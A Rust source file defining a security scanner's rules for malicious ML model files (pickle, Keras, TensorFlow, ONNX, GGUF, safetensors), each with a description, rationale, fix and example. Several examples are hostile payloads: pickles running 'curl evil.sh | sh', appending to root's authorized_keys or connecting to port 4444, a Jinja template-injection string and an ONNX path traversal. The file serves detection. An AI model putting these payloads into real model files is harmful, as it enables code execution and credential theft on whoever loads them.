//! The rules of the `models` scanner, one data entry each.

use rampart_core::{Confidence, Rule, Severity};

pub const PICKLE_CODE_EXECUTION: &str = "models/pickle-code-execution";
pub const PICKLE_FILE_ACCESS: &str = "models/pickle-file-access";
pub const PICKLE_NETWORK: &str = "models/pickle-network";
pub const PICKLE_DANGEROUS_IMPORT: &str = "models/pickle-dangerous-import";
pub const PICKLE_UNREVIEWED_IMPORT: &str = "models/pickle-unreviewed-import";
pub const PICKLE_UNREVIEWED_CALL: &str = "models/pickle-unreviewed-call";
pub const ZIP_TAMPERED: &str = "models/zip-tampered-container";
pub const UNRECOGNISED_MODEL: &str = "models/unrecognised-model-file";
pub const PICKLE_DYNAMIC_IMPORT: &str = "models/pickle-dynamic-import";
pub const PICKLE_UNKNOWN_EXTENSION: &str = "models/pickle-unknown-extension";
pub const PICKLE_MALFORMED: &str = "models/pickle-malformed";
pub const NPY_OBJECT_ARRAY: &str = "models/npy-object-array";
pub const TORCHSCRIPT_CODE: &str = "models/torchscript-code";
pub const KERAS_LAMBDA: &str = "models/keras-lambda-layer";
pub const KERAS_UNSAFE_MODULE: &str = "models/keras-unsafe-module";
pub const KERAS_CUSTOM_OBJECT: &str = "models/keras-custom-object";
pub const TF_PYFUNC_OP: &str = "models/tf-pyfunc-op";
pub const TF_FILE_OP: &str = "models/tf-file-op";
pub const ONNX_EXTERNAL_DATA_ESCAPE: &str = "models/onnx-external-data-escape";
pub const ONNX_CUSTOM_DOMAIN: &str = "models/onnx-custom-domain";
pub const SAFETENSORS_INVALID: &str = "models/safetensors-invalid-header";
pub const DISGUISED_FORMAT: &str = "models/disguised-format";
pub const GGUF_TEMPLATE_INJECTION: &str = "models/gguf-chat-template-injection";
pub const GGUF_INVALID: &str = "models/gguf-invalid-header";
pub const ARCHIVE_LIMIT: &str = "models/archive-limit-exceeded";

const LLM_SUPPLY: &[&str] = &["LLM03:2025", "LLM04:2025"];

struct Spec {
    id: &'static str,
    title: &'static str,
    severity: Severity,
    confidence: Confidence,
    cwe: &'static [u32],
    description: &'static str,
    rationale: &'static str,
    example: &'static str,
    remediation: &'static str,
    references: &'static [&'static str],
}

const PICKLE_REFS: &[&str] = &[
    "https://docs.python.org/3/library/pickle.html#restricting-globals",
    "https://cwe.mitre.org/data/definitions/502.html",
    "https://genai.owasp.org/llmrisk/llm032025-supply-chain/",
];

const PICKLE_FIX: &str = "Do not load the file. Obtain the model from a trusted source in a format that cannot \
carry code (safetensors, GGUF, ONNX without custom operators); if a pickle is unavoidable, load it with \
`torch.load(..., weights_only=True)` or a restricted `Unpickler.find_class`.";

const SPECS: &[Spec] = &[
    Spec {
        id: PICKLE_CODE_EXECUTION,
        title: "Pickle imports a code-execution primitive",
        severity: Severity::Critical,
        confidence: Confidence::High,
        cwe: &[502, 94],
        description: "A pickle stream (a PyTorch checkpoint, a joblib or plain pickle, an object NumPy \
array...) imports a global that runs processes or code when the file is loaded: `os.system`, \
`subprocess.Popen`, `builtins.eval`/`exec`, `runpy`, `importlib`, `marshal`, `types.CodeType`, \
`ctypes`, nested `pickle.loads`/`torch.load`, `operator.methodcaller` and the like. The finding shows the \
resolved call with its constant arguments.",
        rationale: "Unpickling calls whatever the stream names. Loading this file runs the call shown, \
with the rights of the process that loads the model.",
        example: "cposix\\nsystem\\n(S'curl evil.sh | sh'\\ntR.   →   posix.system(\"curl evil.sh | sh\")",
        remediation: PICKLE_FIX,
        references: PICKLE_REFS,
    },
    Spec {
        id: PICKLE_FILE_ACCESS,
        title: "Pickle imports a file-system primitive",
        severity: Severity::Critical,
        confidence: Confidence::High,
        cwe: &[502, 73],
        description: "A pickle stream imports a global that opens, writes, copies or deletes files \
(`builtins.open`, `io.FileIO`, `shutil`, `tempfile`, `numpy.save`...).",
        rationale: "Model files only rebuild tensors and containers. A file primitive called while \
loading can plant files (a `.bashrc`, an SSH key) or read secrets.",
        example: "c__builtin__\\nopen\\n(S'/root/.ssh/authorized_keys'\\nS'a'\\ntR.",
        remediation: PICKLE_FIX,
        references: PICKLE_REFS,
    },
    Spec {
        id: PICKLE_NETWORK,
        title: "Pickle imports a network primitive",
        severity: Severity::Critical,
        confidence: Confidence::High,
        cwe: &[502, 918],
        description: "A pickle stream imports a global that opens network connections (`socket`, \
`urllib`, `requests`, `http.client`, `ftplib`...).",
        rationale: "A model that connects out while loading is exfiltrating data or fetching a second \
stage.",
        example: "csocket\\ncreate_connection\\n((S'10.0.0.1'\\nI4444\\nttR.",
        remediation: PICKLE_FIX,
        references: PICKLE_REFS,
    },
    Spec {
        id: PICKLE_DANGEROUS_IMPORT,
        title: "Pickle imports an introspection primitive",
        severity: Severity::Critical,
        confidence: Confidence::High,
        cwe: &[502, 470],
        description: "A pickle stream imports a global that reaches arbitrary attributes or \
interpreter internals: `builtins.getattr`, `operator.attrgetter`, `sys`, `inspect`, `gc`, or a dotted \
protocol 4 name that walks into dunder attributes (`OrderedDict.__init__.__globals__`).",
        rationale: "These are the stepping stones of every known allowlist bypass: from an attribute \
lookup an attacker reaches `__builtins__` and from there `eval`.",
        example: "cbuiltins\\ngetattr\\n(cbuiltins\\n__import__\\n(S'os'\\ntRS'system'\\ntR.",
        remediation: PICKLE_FIX,
        references: PICKLE_REFS,
    },
    Spec {
        id: PICKLE_UNREVIEWED_IMPORT,
        title: "Pickle imports a global that is not on the allowlist",
        severity: Severity::Low,
        confidence: Confidence::Medium,
        cwe: &[502],
        description: "A pickle stream imports a global that is neither known to be safe (tensor and \
array rebuild helpers, plain containers) nor known to be dangerous. A scikit-learn model imports its \
estimator classes, for instance. Classification is deny-by-default: such imports are reported, never \
silently trusted.",
        rationale: "Whether unpickling this global is harmless depends on what the class does in \
`__reduce__`/`__setstate__`. Loading still runs code of that package.",
        example: "csklearn.linear_model._base\\nLinearRegression\\n...",
        remediation: "Check that the imported classes come from the packages you expect, then allow \
them in rampart.toml: `[scanner.models] allow_globals = [\"sklearn.*\"]`. Prefer formats without code \
(skops, ONNX, safetensors).",
        references: PICKLE_REFS,
    },
    Spec {
        id: PICKLE_UNREVIEWED_CALL,
        title: "Pickle calls a global that is not on the allowlist",
        severity: Severity::High,
        confidence: Confidence::Medium,
        cwe: &[502],
        description: "A pickle stream invokes, while loading, a global that is neither known to be \
safe nor known to be dangerous: it is the callee of REDUCE, NEWOBJ, NEWOBJ_EX, INST or OBJ, the class \
given to `copyreg._reconstructor`, or an object whose `__setstate__` a BUILD reaches. Deny by default: \
an unknown callable that runs at load time is treated as able to run code. Critical when the arguments \
read as code or a shell command (`__import__`, `os.system`, `eval(`, `sh -c`...).",
        rationale: "Every known bypass of a pickle blocklist calls a function the blocklist did not \
name (a helper deep in a library that runs a command, profiles a string or loads a config). Only \
reviewed names are safe to call.",
        example: "cmytools.jobs\\nrun_script\\n(X...__import__('os').system('id')tR.",
        remediation: "Check where the callable comes from and what it does. If it is your own class \
and the file comes from you, allow it in rampart.toml (`[scanner.models] allow_globals = \
[\"mypkg.model.MyModel\"]`); otherwise do not load the file.",
        references: PICKLE_REFS,
    },
    Spec {
        id: ZIP_TAMPERED,
        title: "Model zip container has been tampered with",
        severity: Severity::High,
        confidence: Confidence::High,
        cwe: &[502, 354],
        description: "A member of a model zip (a PyTorch checkpoint, a Keras archive) says it is \
encrypted while its data is plainly stored or deflated, or its CRC does not match its data. \
PyTorch's loader ignores both, so the member is read and scanned anyway; the anomaly itself is \
reported because tools that refuse such members are blind to what torch will load.",
        rationale: "Writers of model files never set the encryption bit on plain data nor write \
wrong checksums; both are ways to hide a payload from scanners that trust the zip metadata.",
        example: "archive/data.pkl with general-purpose flag bit 0 set, stored uncompressed",
        remediation: "Do not load the file; obtain the model again from a trusted source.",
        references: &[
            "https://pkware.cachefly.net/webdocs/casestudies/APPNOTE.TXT",
            "https://cwe.mitre.org/data/definitions/354.html",
        ],
    },
    Spec {
        id: UNRECOGNISED_MODEL,
        title: "Model file in an unrecognised or broken format",
        severity: Severity::Medium,
        confidence: Confidence::Medium,
        cwe: &[502],
        description: "A file named like a model (`.pkl`, `.pt`, `.pth`, `.ckpt`, `.joblib`, \
`.safetensors`, `.onnx`, `.h5`...) is in none of the formats rampart reads, or its container is \
broken, so it could not be checked. Generic extensions that are often not models (`.bin`, `.dat`, \
`.data`, `.model`, `.pb`) are reported only when the file name says model (`pytorch_model.bin`, \
`model.dat`), and at low severity.",
        rationale: "A loader may still make sense of a file a scanner cannot (lenient zip readers, \
pickles after junk bytes); an unscanned model is not a clean model.",
        example: "model.pt holding text, or a zip whose central directory is cut off",
        remediation: "Check where the file comes from; re-export it in a documented format \
(safetensors, ONNX, GGUF).",
        references: PICKLE_REFS,
    },
    Spec {
        id: PICKLE_DYNAMIC_IMPORT,
        title: "Pickle imports a global whose name is computed",
        severity: Severity::High,
        confidence: Confidence::Medium,
        cwe: &[502],
        description: "A STACK_GLOBAL opcode takes its module or name from something other than a \
constant string, so what it imports cannot be known without running the stream.",
        rationale: "Benign pickles always name their globals with constants; a computed name is an \
evasion technique.",
        example: "STACK_GLOBAL(<result of a call>, \"system\")",
        remediation: PICKLE_FIX,
        references: PICKLE_REFS,
    },
    Spec {
        id: PICKLE_UNKNOWN_EXTENSION,
        title: "Pickle uses an unregistered extension code",
        severity: Severity::High,
        confidence: Confidence::Medium,
        cwe: &[502],
        description: "An EXT1/EXT2/EXT4 opcode names a global through the copyreg extension registry, \
and the code is not registered (a stock interpreter registers none).",
        rationale: "The import it stands for depends on the loading process; scanners that do not \
resolve extension codes miss it.",
        example: "\\x80\\x02\\x82\\x07)R.",
        remediation: "Do not load the file unless you know which process registers the code and what \
it maps to; list known codes in `[scanner.models] extension_codes`.",
        references: PICKLE_REFS,
    },
    Spec {
        id: PICKLE_MALFORMED,
        title: "Pickle stream is truncated or malformed",
        severity: Severity::Medium,
        confidence: Confidence::High,
        cwe: &[502, 20],
        description: "A pickle stream ends early or contains an invalid opcode. Everything found \
before the break is still reported.",
        rationale: "A payload placed before a deliberately broken tail still runs when the file is \
loaded (the loader fails afterwards), while naive scanners give up on the whole file.",
        example: "cposix\\nsystem\\n(S'id'\\ntR\\xff",
        remediation: "Treat the file as untrusted; re-export it from the original framework.",
        references: PICKLE_REFS,
    },
    Spec {
        id: NPY_OBJECT_ARRAY,
        title: "NumPy array with object dtype (pickled payload)",
        severity: Severity::Medium,
        confidence: Confidence::High,
        cwe: &[502],
        description: "A `.npy` array (alone or in an `.npz`) has an object dtype: its data is a pickle, \
loaded by `numpy.load(..., allow_pickle=True)`. The pickle is analysed too.",
        rationale: "Object arrays are pickles in disguise; a file that looks like plain data can run \
code when loaded with `allow_pickle=True`.",
        example: "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",
        remediation: "Save numeric arrays only, or load with `allow_pickle=False` (the default).",
        references: &["https://numpy.org/doc/stable/reference/generated/numpy.lib.format.html"],
    },
    Spec {
        id: TORCHSCRIPT_CODE,
        title: "TorchScript archive carries code",
        severity: Severity::Low,
        confidence: Confidence::High,
        cwe: &[94],
        description: "A TorchScript archive (`torch.jit.save`) contains serialized code under `code/` \
that the TorchScript interpreter runs when the model is used. Its `constants.pkl` and other pickles are \
analysed like any pickle.",
        rationale: "TorchScript code is a restricted language, but it can call registered custom \
operators; review where the archive comes from.",
        example: "archive/code/__torch__/model.py",
        remediation: "Load TorchScript archives from trusted sources only.",
        references: &["https://pytorch.org/docs/stable/jit.html"],
    },
    Spec {
        id: KERAS_LAMBDA,
        title: "Keras model contains a Lambda layer",
        severity: Severity::Critical,
        confidence: Confidence::High,
        cwe: &[502, 94],
        description: "The model configuration (`config.json` of a `.keras` file, or the `model_config` \
attribute of an HDF5 `.h5` file) has a `Lambda` layer, whose function is stored as marshalled Python \
bytecode or source.",
        rationale: "Loading the model (with safe_mode off, or with older Keras and tf.keras \
versions) unmarshals and runs the function: arbitrary code (CVE-2024-3660).",
        example: "{\"class_name\": \"Lambda\", \"config\": {\"function\": {\"class_name\": \"__lambda__\", ...}}}",
        remediation: "Replace Lambda layers with registered custom layers whose code you ship; load \
with `safe_mode=True`.",
        references: &[
            "https://keras.io/api/models/model_saving_apis/model_saving_and_loading/",
            "https://nvd.nist.gov/vuln/detail/CVE-2024-3660",
        ],
    },
    Spec {
        id: KERAS_UNSAFE_MODULE,
        title: "Keras configuration names a dangerous module",
        severity: Severity::Critical,
        confidence: Confidence::High,
        cwe: &[502, 94],
        description: "An object of the Keras configuration has a `module` (or `registered_name`) in a \
module on the dangerous list (os, subprocess, builtins eval/exec...).",
        rationale: "Keras imports the named module and resolves the class or function from it when \
deserialising.",
        example: "{\"module\": \"os\", \"class_name\": \"system\", ...}",
        remediation: "Do not load the model.",
        references: &["https://keras.io/api/models/model_saving_apis/model_saving_and_loading/"],
    },
    Spec {
        id: KERAS_CUSTOM_OBJECT,
        title: "Keras configuration names a module outside Keras",
        severity: Severity::Medium,
        confidence: Confidence::Medium,
        cwe: &[829],
        description: "An object of the Keras configuration comes from a module outside keras / \
tf.keras / keras_hub, or has a custom `registered_name`.",
        rationale: "Loading imports that module and runs its code; it must be a package you trust.",
        example: "{\"module\": \"mypkg.layers\", \"class_name\": \"MyLayer\", \"registered_name\": \"mypkg>MyLayer\"}",
        remediation: "Check the module is one you ship and trust.",
        references: &["https://keras.io/guides/serialization_and_saving/"],
    },
    Spec {
        id: TF_PYFUNC_OP,
        title: "TensorFlow graph calls back into Python",
        severity: Severity::Critical,
        confidence: Confidence::Medium,
        cwe: &[94],
        description: "A SavedModel graph (or one of its functions) uses `PyFunc`, `EagerPyFunc` or \
`PyFuncStateless`, which call a Python function when the graph runs.",
        rationale: "Python callbacks run arbitrary code in the serving process.",
        example: "node { op: \"EagerPyFunc\" ... }",
        remediation: "Re-export the model without tf.py_function / tf.numpy_function.",
        references: &["https://www.tensorflow.org/api_docs/python/tf/py_function"],
    },
    Spec {
        id: TF_FILE_OP,
        title: "TensorFlow graph reads or writes files",
        severity: Severity::High,
        confidence: Confidence::Medium,
        cwe: &[73],
        description: "A SavedModel graph uses file-system ops such as `ReadFile`, `WriteFile`, \
`MatchingFiles`, `DeleteFile` or `ImmutableConst`, outside the standard checkpoint save/restore.",
        rationale: "A served model that reads or writes arbitrary paths can leak secrets or plant \
files (the TensorFlow model-as-malware technique).",
        example: "node { op: \"ReadFile\" input: \"Const\" }",
        remediation: "Re-export the model without file ops; serve it with a read-only file system.",
        references: &["https://www.tensorflow.org/api_docs/python/tf/io/read_file"],
    },
    Spec {
        id: ONNX_EXTERNAL_DATA_ESCAPE,
        title: "ONNX external data escapes the model directory",
        severity: Severity::High,
        confidence: Confidence::High,
        cwe: &[22],
        description: "A tensor of the ONNX model stores its data in an external file whose `location` \
is absolute or climbs out of the model directory (`..`).",
        rationale: "Loading the model reads (and on save, writes) that path: arbitrary file read \
(CVE-2024-27318 class).",
        example: "external_data { key: \"location\" value: \"../../etc/passwd\" }",
        remediation: "Keep external data files next to the model with relative, plain names.",
        references: &["https://nvd.nist.gov/vuln/detail/CVE-2024-27318"],
    },
    Spec {
        id: ONNX_CUSTOM_DOMAIN,
        title: "ONNX model uses a custom operator domain",
        severity: Severity::Medium,
        confidence: Confidence::Medium,
        cwe: &[829],
        description: "A node (or opset import) of the ONNX graph uses an operator domain other than \
the standard `ai.onnx`, `ai.onnx.ml`, `ai.onnx.training`, `ai.onnx.preview.training` and \
`com.microsoft`.",
        rationale: "Custom operators run native code from a library the runtime must load; the model \
is only as trustworthy as that library.",
        example: "node { op_type: \"Payload\" domain: \"evil.ops\" }",
        remediation: "Check that the custom-op library is one you ship and trust.",
        references: &["https://onnx.ai/onnx/repo-docs/IR.html"],
    },
    Spec {
        id: SAFETENSORS_INVALID,
        title: "safetensors header is invalid",
        severity: Severity::High,
        confidence: Confidence::High,
        cwe: &[20],
        description: "The safetensors header is out of bounds, is not JSON, has tensors with \
overlapping or out-of-range offsets, sizes that do not match dtype × shape, or non-string \
`__metadata__`.",
        rationale: "Loaders disagree on malformed headers; inconsistencies are how parser bugs are \
reached and how data is smuggled into a file that passes as weights.",
        example: "{\"w\": {\"dtype\": \"F32\", \"shape\": [4], \"data_offsets\": [0, 8]}}",
        remediation: "Re-export the weights with the safetensors library.",
        references: &["https://github.com/huggingface/safetensors#format"],
    },
    Spec {
        id: DISGUISED_FORMAT,
        title: "Model file content does not match its extension",
        severity: Severity::High,
        confidence: Confidence::High,
        cwe: &[434, 502],
        description: "A file named like a code-free format (`.safetensors`, `.gguf`, `.onnx`, `.npy`, \
`.h5`) contains a pickle or another format.",
        rationale: "Tools pick a loader by content or by extension inconsistently; a pickle renamed to \
`.safetensors` passes review as safe weights and is loaded with `torch.load` elsewhere.",
        example: "model.safetensors starting with \\x80\\x04 (a pickle)",
        remediation: "Do not load the file; obtain real safetensors weights.",
        references: &["https://cwe.mitre.org/data/definitions/434.html"],
    },
    Spec {
        id: GGUF_TEMPLATE_INJECTION,
        title: "GGUF chat template reaches Python internals",
        severity: Severity::Critical,
        confidence: Confidence::High,
        cwe: &[1336, 94],
        description: "The `tokenizer.chat_template` (Jinja) of a GGUF file reaches Python internals \
(`__class__`, `__globals__`, `__builtins__`, `__subclasses__`, `__mro__`, `__init__`, `os`, `popen`, \
`import`, `eval`).",
        rationale: "Runtimes render the template with Jinja2 outside a sandbox (llama-cpp-python, \
CVE-2024-34359): the template runs arbitrary code when a chat starts.",
        example: "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        remediation: "Replace the chat template with the model vendor's original; render templates in \
a sandboxed environment.",
        references: &["https://nvd.nist.gov/vuln/detail/CVE-2024-34359"],
    },
    Spec {
        id: GGUF_INVALID,
        title: "GGUF header is malformed",
        severity: Severity::Medium,
        confidence: Confidence::High,
        cwe: &[20],
        description: "The GGUF header or a metadata entry is out of bounds, has an unknown value type or \
an implausible count.",
        rationale: "Malformed GGUF headers have triggered memory corruption in loaders (GGML \
CVE-2024-25664 class).",
        example: "GGUF v3 with a metadata string length past the end of the file",
        remediation: "Re-export the model with llama.cpp tools.",
        references: &["https://github.com/ggerganov/ggml/blob/master/docs/gguf.md"],
    },
    Spec {
        id: ARCHIVE_LIMIT,
        title: "Model archive exceeds scan limits",
        severity: Severity::Medium,
        confidence: Confidence::Medium,
        cwe: &[409],
        description: "An archive holding model files nests too deep, holds too many members or \
decompresses past the size or ratio limits; the rest was not scanned.",
        rationale: "Decompression bombs exhaust memory and disk; whatever was not scanned may hide a \
payload.",
        example: "a 42 KB zip expanding to 4 PB",
        remediation: "Inspect the archive by hand; raise the limits in `[scanner.models]` only for \
trusted inputs.",
        references: &["https://cwe.mitre.org/data/definitions/409.html"],
    },
];

/// Every rule of the `models` scanner.
pub fn all() -> Vec<Rule> {
    SPECS
        .iter()
        .map(|s| Rule {
            id: s.id.to_string(),
            scanner: "models".into(),
            title: s.title.into(),
            severity: s.severity,
            confidence: s.confidence,
            description: s.description.into(),
            rationale: s.rationale.into(),
            example: Some(s.example.into()),
            remediation: s.remediation.into(),
            references: s.references.iter().map(|r| r.to_string()).collect(),
            cwe: s.cwe.to_vec(),
            owasp: vec!["A08:2021".into()],
            owasp_llm: LLM_SUPPLY.iter().map(|s| s.to_string()).collect(),
            ssdf: vec!["PW.4.1".into()],
            tags: vec!["ml".into(), "supply-chain".into()],
        })
        .collect()
}

#[cfg(test)]
mod tests {
    #[test]
    fn rules_validate_and_are_unique() {
        let mut reg = rampart_core::RuleRegistry::new();
        for r in super::all() {
            reg.insert(r).unwrap();
        }
        assert_eq!(reg.len(), super::SPECS.len());
    }
}
